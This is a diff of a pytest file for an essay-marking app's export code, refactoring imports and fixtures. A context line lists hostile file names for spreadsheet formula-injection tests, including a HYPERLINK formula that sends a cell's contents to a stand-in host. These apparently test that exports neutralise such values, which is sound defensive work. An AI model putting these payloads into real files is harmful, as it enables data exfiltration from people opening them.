@@ -10,7 +10,7 @@ import zipfile
 import pytest
 from openpyxl import load_workbook
 
-from conftest import DEVSET
+from conftest import devset_essay as devset
 from models.errors import RubricateError
 from models.exports import (
     export_columns, export_table, feedback_zip, import_review, reference_titles, safe_cell, table_bytes,
@@ -18,19 +18,8 @@ from models.exports import (
 from models.marking import mark_into_session, session_inputs, session_rows
 from models.reader import read_essay_bytes
 from models.sessions import calibrated_model
-from models.store import open_store
 
 HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A2,"y").txt', "+cmd.txt", "@SUM(1).txt", "-2+3.txt"]
-
-
-def devset(name: str) -> str:
-    return (DEVSET / "essays" / name).read_text(encoding="utf-8")
-
-
-@pytest.fixture
-def store(tmp_path):
-    with open_store(tmp_path / "marks.sqlite3") as opened:
-        yield opened
 
 
 def mark(store, model, named: dict[str, str], session: str = "Y13 mock") -> list[dict]:
